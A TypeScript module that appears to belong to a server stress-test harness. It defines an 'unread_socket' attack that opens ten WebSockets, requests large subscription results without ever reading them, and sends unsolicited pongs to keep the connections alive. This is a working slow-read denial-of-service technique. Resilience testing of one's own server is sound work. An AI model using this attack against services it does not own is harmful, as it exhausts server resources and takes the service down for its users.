import type { Attack } from '../attack.ts';
import { frame, largeQuery, openWebSocket, swarm, whileOpen } from './swarm.ts';

const SOCKETS = 10;

/** Asks for large answers over WebSockets and reads none of them; sends unsolicited pongs, so that its connections count as intact. */
export const unreadSocket: Attack = {
  name: 'unread_socket',
  run: (target, run) =>
    swarm(target, run, SOCKETS, (socket) => {
      socket.pause();
      openWebSocket(socket);
      let asked = 0;
      whileOpen(socket, 200, () => {
        asked += 1;
        const payload = { query: largeQuery(target.draftId) };
        socket.write(frame('text', JSON.stringify({ id: String(asked), type: 'subscribe', payload })));
        socket.write(frame('pong', ''));
      });
    }),
};
